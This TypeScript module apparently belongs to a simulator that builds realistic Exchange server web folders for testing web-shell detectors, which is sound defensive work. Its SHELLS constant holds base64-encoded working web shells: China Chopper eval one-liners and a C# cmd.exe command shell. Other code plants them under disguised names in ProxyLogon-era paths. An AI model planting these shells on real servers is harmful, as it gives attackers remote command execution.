import type { Rng } from './prng.js';
import type { PlantedFile } from './proxylogon.js';
import type { StaticFile } from './static-files.js';
import type { World } from './world.js';
import { oabSettingsText } from './oab-settings.js';

/**
 * Web folders of the simulated server: a population of shipped-looking Exchange web files (so false positives
 * of name, place and content detectors show) and, in the attacked scenarios, web-shell drops in the folders the
 * 2021 campaigns used (Volexity, Microsoft, CISA AR21-084A descriptions).
 *
 * Shell code would be quarantined by antivirus on the machine that holds this repository: every shell template
 * is kept base64-encoded at rest and decoded only when the simulator writes the tree (docs/simulate.md).
 */

const V15 = 'Program Files/Microsoft/Exchange Server/V15';
const AUTH = `${V15}/FrontEnd/HttpProxy/owa/auth`;
const TEMP_ASPNET = 'Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files';
const DAY = 86_400_000;

/** Shell templates, base64 at rest. `{{NAME}}` placeholders are filled at write time. */
const SHELLS = {
  /** China Chopper one-liner (JScript eval of a request parameter). */
  chopper: 'PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiJT48JWV2YWwoUmVxdWVzdC5JdGVtWyJ7e1NFQ1JFVH19Il0sInVuc2FmZSIpOyU+Cg==',
  /** The script the ProxyLogon OAB reset wrote inside the virtual directory's settings (ExternalUrl). */
  oabScript: 'PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1ZXN0WyJ7e1NFQ1JFVH19Il0sInVuc2FmZSIpO308L3NjcmlwdD4K',
  /** Chopper variant: the posted command is base64, decoded before the eval. */
  chopperB64: 'PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiIERlYnVnPXRydWUlPgo8JQp2YXIge3tWMX19PVJlcXVlc3QuRm9ybSgie3tTRUNSRVR9fSIpOwp2YXIge3tWMn19PVN5c3RlbS5UZXh0LkVuY29kaW5nLkdldEVuY29kaW5nKDY1MDAxKS5HZXRTdHJpbmcoU3lzdGVtLkNvbnZlcnQuRnJvbUJhc2U2NFN0cmluZyh7e1YxfX0pKTsKZXZhbCh7e1YyfX0sInVuc2FmZSIpOwolPgo=',
  /** C# command shell: cmd.exe /c with the posted command, output written back. */
  cmdShell:
    'PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiBWYWxpZGF0ZVJlcXVlc3Q9ImZhbHNlIiAlPgo8JUAgSW1wb3J0IE5hbWVzcGFjZT0iU3lzdGVtLkRpYWdub3N0aWNzIiAlPgo8JUAgSW1wb3J0IE5hbWVzcGFjZT0iU3lzdGVtLklPIiAlPgo8c2NyaXB0IHJ1bmF0PSJzZXJ2ZXIiPgpwcm90ZWN0ZWQgdm9pZCBQYWdlX0xvYWQob2JqZWN0IHNlbmRlciwgRXZlbnRBcmdzIGUpCnsKICAgIHN0cmluZyBjID0gUmVxdWVzdC5Gb3JtWyJ7e1NFQ1JFVH19Il07CiAgICBpZiAoU3RyaW5nLklzTnVsbE9yRW1wdHkoYykpIHsgUmVzcG9uc2UuU3RhdHVzQ29kZSA9IDQwNDsgcmV0dXJuOyB9CiAgICBQcm9jZXNzU3RhcnRJbmZvIHBzaSA9IG5ldyBQcm9jZXNzU3RhcnRJbmZvKCJjbWQuZXhlIiwgIi9jICIgKyBjKTsKICAgIHBzaS5Vc2VTaGVsbEV4ZWN1dGUgPSBmYWxzZTsKICAgIHBzaS5SZWRpcmVjdFN0YW5kYXJkT3V0cHV0ID0gdHJ1ZTsKICAgIHBzaS5SZWRpcmVjdFN0YW5kYXJkRXJyb3IgPSB0cnVlOwogICAgcHNpLkNyZWF0ZU5vV2luZG93ID0gdHJ1ZTsKICAgIFByb2Nlc3MgcCA9IFByb2Nlc3MuU3RhcnQocHNpKTsKICAgIFN0cmVhbVJlYWRlciBvID0gcC5TdGFuZGFyZE91dHB1dDsKICAgIFJlc3BvbnNlLldyaXRlKCI8cHJlPiIgKyBTZXJ2ZXIuSHRtbEVuY29kZShvLlJlYWRUb0VuZCgpICsgcC5TdGFuZGFyZEVycm9yLlJlYWRUb0VuZCgpKSArICI8L3ByZT4iKTsKICAgIHAuV2FpdEZvckV4aXQoKTsKfQo8L3NjcmlwdD4K',
} as const;

/** Decode a shell template (in memory, at write time) and fill its placeholders; Windows line ends. */
export function decodeShell(name: keyof typeof SHELLS, vars: Record<string, string>): string {
  let text = Buffer.from(SHELLS[name], 'base64').toString('utf8');
  for (const [k, v] of Object.entries(vars)) text = text.split(`{{${k}}}`).join(v);
  return text.replace(/\r?\n/g, '\r\n');
}

function crlf(lines: string[]): string {
  return lines.join('\r\n') + '\r\n';
}

const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ';
const LOWER = 'abcdefghijklmnopqrstuvwxyz';

function pascal(s: string): string {
  return s.charAt(0).toUpperCase() + s.slice(1);
}

function aspxPage(inherits: string, body: string[], master?: string): string {
  return crlf([
    `<%@ Page Language="C#" AutoEventWireup="true"${master ? ` MasterPageFile="${master}"` : ''} Inherits="${inherits}" %>`,
    '<%@ Register TagPrefix="ecp" Namespace="Microsoft.Exchange.Management.ControlPanel" Assembly="Microsoft.Exchange.Management.ControlPanel" %>',
    ...body,
  ]);
}

function minifiedJs(rng: Rng, name: string, lines: number): string {
  const ids = Array.from({ length: 6 }, () => rng.alnum(rng.range(1, 3), LOWER));
  const out = [`/* ${name} - Copyright (c) Microsoft Corporation. All rights reserved. */`];
  const snippets = [
    (a: string, b: string) => `function ${a}(${b}){if(!${b})return null;var r=[];for(var i=0;i<${b}.length;i++){r.push(${b}[i].toString());}return r.join(",");}`,
    (a: string, b: string) => `var ${a}=function(${b}){return typeof JSON!=="undefined"?JSON.parse(${b}):eval("("+${b}+")");};`,
    (a: string, b: string) => `${a}.prototype.${b}=function(){var x=new XMLHttpRequest();x.open("POST",this.url,true);x.setRequestHeader("X-OWA-CANARY",this.canary);x.send(this.body);};`,
    (a: string, b: string) => `window.${a}=window.${a}||{};${a}.${b}=function(e){e=e||window.event;if(e.keyCode==13){document.forms[0].submit();}};`,
    (a: string, b: string) => `function ${a}(){var ${b}=document.getElementById("${a}Container");if(${b}){${b}.style.display="none";}}`,
    (a: string, b: string) => `var ${a}={strings:{},load:function(${b}){for(var k in ${b}){if(${b}.hasOwnProperty(k))this.strings[k]=${b}[k];}}};`,
  ];
  for (let i = 0; i < lines; i++) out.push(rng.pick(snippets)(rng.pick(ids) + rng.alnum(3, LOWER), rng.pick(ids)));
  return crlf(out);
}

function image(rng: Rng, ext: string): Buffer {
  const head = ext === '.png' ? '89504e470d0a1a0a0000000d49484452' : ext === '.gif' ? '474946383961' : ext === '.jpg' ? 'ffd8ffe000104a464946' : '00000100010010100000';
  return Buffer.concat([Buffer.from(head, 'hex'), rng.bytes(rng.range(200, 1800))]);
}

/** A stand-in for a compiled page assembly: a PE header and the metadata strings a real one carries. */
function compiledDll(rng: Rng, classNames: string[], extra: string[] = [], userStrings: string[] = []): Buffer {
  const ascii = ['ASP', 'System.Web', 'System.Web.UI.Page', 'FrameworkInitialize', '__BuildControlTree', ...classNames, ...extra].join('\0');
  const utf16 = Buffer.from(userStrings.join('\0'), 'utf16le');
  return Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000b8000000', 'hex'), rng.bytes(rng.range(400, 900)), Buffer.from('PE\0\0', 'latin1'), rng.bytes(300), Buffer.from(ascii, 'latin1'), Buffer.alloc(4), utf16, rng.bytes(rng.range(200, 600))]);
}

function compiledNote(virtualPath: string, assembly: string, type: string, rng: Rng): string {
  return crlf([
    '<?xml version="1.0" encoding="utf-8"?>',
    `<preserve resultType="3" virtualPath="${virtualPath}" hash="${rng.hex(9)}" filehash="${rng.hex(16)}" flags="110000" assembly="${assembly}" type="${type}">`,
    '    <filedeps>',
    `        <filedep name="${virtualPath}" />`,
    '    </filedeps>',
    '</preserve>',
  ]);
}

export interface WebPopulationInput {
  world: World;
  rng: Rng;
  cuInstalled: number;
  suInstalled?: number;
}

const AUTH_PAGES: Array<[string, string]> = [
  ['frowny.aspx', 'Microsoft.Exchange.HttpProxy.Frowny'],
  ['OutlookCN.aspx', 'Microsoft.Exchange.HttpProxy.OutlookCN'],
  ['RedirSuiteServiceProxy.aspx', 'Microsoft.Exchange.HttpProxy.RedirSuiteServiceProxy'],
  ['signout.aspx', 'Microsoft.Exchange.HttpProxy.SignOut'],
  ['timeoutlogout.aspx', 'Microsoft.Exchange.HttpProxy.TimeoutLogout'],
];
const RESOURCE_IMAGES = ['office365_logo', 'sign_in_arrow', 'sign_in_arrow_rtl', 'owa_text_blue', 'lgnbotl', 'lgnbotm', 'lgnbotr', 'lgnleft', 'lgnright', 'lgntopl', 'lgntopm', 'lgntopr', 'warn', 'icp', 'bg_gradient', 'cert_icon', 'error', 'olk_logo_white', 'progress_small', 'close_icon'];
const LANGS = ['ar', 'bg', 'ca', 'cs', 'da', 'de', 'el', 'en', 'es', 'et', 'eu', 'fi', 'fr', 'gl', 'he', 'hi', 'hr', 'hu', 'id', 'it', 'ja', 'kk', 'ko', 'lt', 'lv', 'ms', 'nb', 'nl', 'pl', 'pt', 'ro', 'ru', 'sk', 'sl', 'sr', 'sv', 'th', 'tr', 'uk', 'vi', 'zh-cn', 'zh-tw'];
const ECP_AREAS = ['Organize', 'Reporting', 'RulesEditor', 'UsersGroups', 'Security', 'MessageTracking', 'PersonalSettings', 'Customize', 'SMS', 'Tools', 'OrgSettings', 'Extension', 'Mobile', 'TroubleShooting'];
const VERBS = ['Edit', 'New', 'View', 'Manage', 'Set', 'Remove', 'Add', 'Import', 'Export', 'Search', 'Select', 'Details'];
const NOUNS = ['Mailbox', 'InboxRule', 'Group', 'Contact', 'Policy', 'Connector', 'Domain', 'Certificate', 'Journal', 'Retention', 'Permission', 'Device', 'Report', 'Calendar', 'Signature', 'Delegate', 'Transport', 'Quota', 'Archive', 'Alias'];

/**
 * What a clean Exchange 2016 server has in its web folders besides the few pages static-files.ts writes:
 * every shipped owa\auth page, resource folders per installed build, ecp\auth\TimeoutLogout.aspx, hundreds of
 * ECP/OWA back-end pages and scripts (some with inline server code and client-side eval, as real ones have),
 * EWS schemas, OAB generator temporary files and the Temporary ASP.NET Files of the pages served.
 */
export function exchangeWebPopulation(input: WebPopulationInput): StaticFile[] {
  const { rng, cuInstalled, suInstalled } = input;
  const files: StaticFile[] = [];
  const taken = new Set<string>();
  // Random names can repeat: one file per path (two writes to one path would race).
  const add = (rel: string, content: Buffer | string, mtime: number): void => {
    if (taken.has(rel.toLowerCase())) return;
    taken.add(rel.toLowerCase());
    files.push({ rel, content, mtime });
  };
  const shipped = suInstalled ?? cuInstalled;
  for (const [name, inherits] of AUTH_PAGES) add(`${AUTH}/${name}`, aspxPage(inherits, ['<html><body><div id="mainContent"><%= Strings.GetLocalizedString(Strings.IDs.SignOut) %></div></body></html>']), shipped);
  add(`${AUTH}/getidtoken.htm`, crlf(['<!DOCTYPE html>', '<html><head><title></title><script type="text/javascript">window.parent.postMessage(window.location.hash, "*");</script></head><body></body></html>']), shipped);
  add(`${V15}/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx`, aspxPage('Microsoft.Exchange.HttpProxy.TimeoutLogout', ['<html><body><div id="timeout"></div></body></html>']), shipped);

  const versions: Array<[string, number]> = [['15.1.2176.2', cuInstalled]];
  if (suInstalled !== undefined) versions.push(['15.1.2176.9', suInstalled]);
  const resourceSet = (base: string, t: number, n: number): void => {
    for (const img of RESOURCE_IMAGES.slice(0, n)) {
      const ext = rng.pick(['.png', '.gif', '.png', '.jpg']);
      add(`${base}/themes/resources/${img}${ext}`, image(rng, ext), t);
    }
    add(`${base}/themes/resources/segoeui-regular.ttf`, rng.bytes(rng.range(3000, 6000)), t);
    add(`${base}/themes/resources/segoeui-semibold.woff`, rng.bytes(rng.range(3000, 6000)), t);
    add(`${base}/scripts/premium/fexppw.js`, minifiedJs(rng, 'fexppw.js', 8), t);
    add(`${base}/scripts/premium/ftimeoutlogout.js`, minifiedJs(rng, 'ftimeoutlogout.js', 5), t);
    add(`${base}/scripts/basic/flogon.js`, minifiedJs(rng, 'flogon.js', 6), t);
  };
  for (const [v, t] of versions) {
    resourceSet(`${AUTH}/${v}`, t, RESOURCE_IMAGES.length);
    for (const lang of LANGS) add(`${AUTH}/${v}/scripts/premium/strings.${lang}.js`, minifiedJs(rng, `strings.${lang}.js`, 3), t);
  }
  resourceSet(`${AUTH}/Current`, shipped, 8);

  // Back end: ECP pages by area, scripts and themes; OWA's per-build scripts; EWS schemas; Autodiscover.
  const ecp = `${V15}/ClientAccess/ecp`;
  for (const area of ECP_AREAS) {
    const n = rng.range(10, 22);
    for (let i = 0; i < n; i++) {
      const page = `${rng.pick(VERBS)}${rng.pick(NOUNS)}${rng.chance(0.3) ? rng.pick(['s', 'Wizard', 'Properties', 'List']) : ''}`;
      add(`${ecp}/${area}/${page}.aspx`, aspxPage(`Microsoft.Exchange.Management.ControlPanel.${area}.${page}`, [
        '<asp:Content ID="contentMain" ContentPlaceHolderID="ContentPlaceHolder" runat="server">',
        `    <ecp:PropertyPageSheet ID="${page}Sheet" runat="server" ServiceUrl="DDI/DDIService.svc?schema=${page}" />`,
        `    <ecp:EcpLabel ID="lbl${page}" runat="server" Text="<%$ Strings:${page}Caption %>" />`,
        '</asp:Content>',
      ], '~/Popup.master'), shipped);
    }
    add(`${ecp}/${area}/web.config`, crlf(['<?xml version="1.0" encoding="utf-8"?>', '<configuration><system.web><authorization><allow roles="*" /></authorization></system.web></configuration>']), shipped);
  }
  // Real pages with inline server code: parameters read and written back encoded (no eval, no process).
  for (const [name, param] of [['ReportingHelp', 'topic'], ['ErrorPage', 'cause']] as const) {
    add(`${ecp}/${name}.aspx`, crlf([
      '<%@ Page Language="C#" AutoEventWireup="true" %>',
      '<script runat="server">',
      '    protected void Page_Load(object sender, EventArgs e)',
      '    {',
      `        string value = Request.QueryString["${param}"];`,
      '        if (!String.IsNullOrEmpty(value))',
      '        {',
      '            Response.Write(Server.HtmlEncode(value));',
      '        }',
      '    }',
      '</script>',
      `<html><head><title>${name}</title></head><body><form id="form1" runat="server"></form></body></html>`,
    ]), shipped);
  }
  for (let i = 0; i < 40; i++) {
    const name = `${rng.pick(['Common', 'Ddi', 'Grid', 'Wizard', 'Picker', 'Dialog', 'Toolbar', 'Navigation'])}${rng.alnum(1, UPPER)}${rng.alnum(4, LOWER)}.js`;
    add(`${ecp}/15.1.2176.2/scripts/${name}`, minifiedJs(rng, name, rng.range(10, 40)), cuInstalled);
  }
  add(`${ecp}/15.1.2176.2/scripts/json2.js`, minifiedJs(rng, 'json2.js', 12), cuInstalled);
  for (const th of ['default', 'highcontrast']) add(`${ecp}/15.1.2176.2/themes/${th}/ecp.css`, crlf(['.ecpHeader { height: 48px; }', '.ecpNav li { padding: 4px 8px; }']), cuInstalled);
  add(`${ecp}/default.aspx`, aspxPage('Microsoft.Exchange.Management.ControlPanel.DefaultPage', ['<html><body><ecp:MainNavigation runat="server" /></body></html>']), shipped);
  add(`${ecp}/DDI/DDIService.svc`, '<%@ ServiceHost Language="C#" Service="Microsoft.Exchange.Management.ControlPanel.DDIService" %>\r\n', shipped);
  add(`${ecp}/web.config`, crlf(['<?xml version="1.0" encoding="utf-8"?>', '<configuration><system.web><compilation debug="false" batch="true" /></system.web></configuration>']), shipped);
  for (const [v, t] of versions) {
    for (let i = 0; i < 30; i++) {
      const name = `${rng.pick(['boot', 'microsoft.owa', 'owa', 'mail', 'calendar', 'people', 'options'])}.${rng.pick(['core', 'ui', 'mail', 'compose', 'reading', 'common', 'worker'])}${rng.chance(0.3) ? `.${rng.alnum(2, LOWER)}` : ''}.js`;
      add(`${V15}/ClientAccess/Owa/prem/${v}/scripts/${name}`, minifiedJs(rng, name, rng.range(15, 50)), t);
    }
    add(`${V15}/ClientAccess/Owa/prem/${v}/resources/styles/fabric.color.theme.css`, crlf(['.ms-bgc-t { background-color: #0078d7; }']), t);
  }
  add(`${V15}/ClientAccess/Owa/web.config`, crlf(['<?xml version="1.0" encoding="utf-8"?>', '<configuration />']), shipped);
  add(`${V15}/ClientAccess/exchweb/ews/Services.wsdl`, crlf(['<?xml version="1.0" encoding="utf-8"?>', '<wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/" targetNamespace="http://schemas.microsoft.com/exchange/services/2006/messages" />']), shipped);
  add(`${V15}/ClientAccess/exchweb/ews/messages.xsd`, crlf(['<?xml version="1.0" encoding="utf-8"?>', '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" />']), shipped);
  add(`${V15}/ClientAccess/exchweb/ews/Exchange.asmx`, '<%@ WebService Language="C#" Class="Microsoft.Exchange.Services.Wcf.EWSService" %>\r\n', shipped);
  add(`${V15}/ClientAccess/Autodiscover/Autodiscover.svc`, '<%@ ServiceHost Language="C#" Service="Microsoft.Exchange.Autodiscover.WCF.AutodiscoverService" %>\r\n', shipped);
  // The OAB generator's temporary files (CSS-Exchange issues #320, #345: `*js` that are no scripts).
  for (let i = 0; i < 2; i++) {
    const n = `LZX${rng.hex(4).toUpperCase()}`;
    add(`${V15}/ClientAccess/OAB/Temp/${n}.djs`, rng.bytes(rng.range(500, 3000)), shipped + rng.range(1, 20) * DAY);
    add(`${V15}/ClientAccess/OAB/Temp/${n}.1js`, rng.bytes(rng.range(500, 3000)), shipped + rng.range(1, 20) * DAY);
  }

  // Temporary ASP.NET Files of the pages the front end served.
  const owaDir = `${TEMP_ASPNET}/owa/${rng.hex(8)}/${rng.hex(8)}`;
  const batch = `App_Web_${rng.alnum(8, LOWER + '0123456789')}`;
  const pages = ['logon', 'logoff', 'errorfe', 'expiredpassword'];
  for (const p of pages) add(`${owaDir}/${p}.aspx.cdcab7d2.compiled`, compiledNote(`/owa/auth/${p}.aspx`, batch, `ASP.auth_${p}_aspx`, rng), shipped + DAY);
  add(`${owaDir}/${batch}.dll`, compiledDll(rng, pages.map((p) => `auth_${p}_aspx`), ['Microsoft.Exchange.HttpProxy.Logon']), shipped + DAY);
  add(`${owaDir}/hash/hash.web`, rng.hex(16), shipped + DAY);
  const ecpDir = `${TEMP_ASPNET}/ecp/${rng.hex(8)}/${rng.hex(8)}`;
  const ecpBatch = `App_Web_${rng.alnum(8, LOWER + '0123456789')}`;
  add(`${ecpDir}/default.aspx.cdcab7d2.compiled`, compiledNote('/ecp/default.aspx', ecpBatch, 'ASP.default_aspx', rng), shipped + DAY);
  add(`${ecpDir}/${ecpBatch}.dll`, compiledDll(rng, ['default_aspx', 'organize_editmailbox_aspx']), shipped + DAY);
  return files;
}

export interface DropInput {
  world: World;
  rng: Rng;
  /** When the first OAB reset wrote the aspnet_client shell. */
  resetTime: number;
  /** The aspnet_client shell written by the first reset (proxylogon.ts). */
  firstShell: { rel: string; name: string };
  /** Requests stop before this (the SU install or the period end): drops happen before it. */
  stopBefore: number;
  /** The shell operator's address (for the truth). */
  ip: string;
}


/**
 * The further drops of the ProxyLogon scenario, after the first OAB reset: a second reset into owa\auth
 * (random name), the China Chopper one-liner named RedirSuiteServerProxy.aspx (posing as Exchange's
 * RedirSuiteServiceProxy.aspx), a base64-decoding Chopper variant with a campaign name in aspnet_client, a C#
 * command shell in ecp\auth, and the Temporary ASP.NET Files ASP.NET left when it compiled the first shell.
 */
export function proxyLogonDrops(input: DropInput): PlantedFile[] {
  const { world, rng, resetTime } = input;
  const room = Math.max(4 * 3_600_000, input.stopBefore - resetTime - 3_600_000);
  const at = (frac: number): number => resetTime + Math.floor(room * frac) + rng.int(600_000);
  const secret = (): string => rng.alnum(rng.range(4, 9), LOWER + UPPER);
  const files: PlantedFile[] = [];
  const authName = `${rng.alnum(8, LOWER + UPPER)}.aspx`;
  const authAt = at(0.1);
  files.push({
    rel: `${AUTH}/${authName}`,
    content: Buffer.from(oabSettingsText(world, `http://f/${decodeShell('oabScript', { SECRET: secret() }).trimEnd()}`, rng.guid(), authAt, rng), 'utf8'),
    mtime: authAt, kind: 'webshell-file', note: 'second OAB virtual directory reset into owa\\auth: China Chopper inside the settings dump (CVE-2021-27065)', lineValue: 'ExternalUrl', ip: input.ip,
  });
  files.push({
    rel: `${AUTH}/RedirSuiteServerProxy.aspx`,
    content: Buffer.from(decodeShell('chopper', { SECRET: secret() }), 'utf8'),
    mtime: at(0.25), kind: 'webshell-file', note: 'China Chopper one-liner posing as Exchange\'s RedirSuiteServiceProxy.aspx', ip: input.ip,
  });
  files.push({
    rel: 'inetpub/wwwroot/aspnet_client/discover.aspx',
    content: Buffer.from(decodeShell('chopperB64', { SECRET: secret(), V1: rng.alnum(3, LOWER), V2: rng.alnum(4, LOWER) }), 'utf8'),
    mtime: at(0.4), kind: 'webshell-file', note: 'China Chopper variant decoding a base64 command, campaign file name in aspnet_client', ip: input.ip,
  });
  files.push({
    rel: `${V15}/FrontEnd/HttpProxy/ecp/auth/${pascal(rng.alnum(6, LOWER))}.aspx`,
    content: Buffer.from(decodeShell('cmdShell', { SECRET: secret() }), 'utf8'),
    mtime: at(0.5), kind: 'webshell-file', note: 'C# command shell (cmd.exe /c) in ecp\\auth', ip: input.ip,
  });
  // ASP.NET compiled the first shell when it was first requested: its artefacts outlive the page.
  const stem = input.firstShell.name;
  const dir = `${TEMP_ASPNET}/root/${rng.hex(8)}/${rng.hex(8)}`;
  const asm = `App_Web_${stem.toLowerCase()}.cdcab7d2.${rng.alnum(8, LOWER + '0123456789')}`;
  const cls = `aspnet_client_system_web_${stem.replace(/\./g, '_')}`;
  files.push({
    rel: `${dir}/${stem}.cdcab7d2.compiled`,
    content: Buffer.from(compiledNote(`/aspnet_client/system_web/${stem}`, asm, `ASP.${cls}`, rng), 'utf8'),
    mtime: resetTime + rng.range(20_000, 90_000), kind: 'webshell-file', note: 'Temporary ASP.NET Files: compilation record of the aspnet_client shell', ip: input.ip,
  });
  files.push({
    rel: `${dir}/${asm}.dll`,
    content: compiledDll(rng, [cls], ['Microsoft.JScript', 'JScriptEvaluate'], ['unsafe']),
    mtime: resetTime + rng.range(20_000, 90_000), kind: 'webshell-file', note: 'Temporary ASP.NET Files: compiled assembly of the aspnet_client shell', ip: input.ip,
  });
  return files;
}
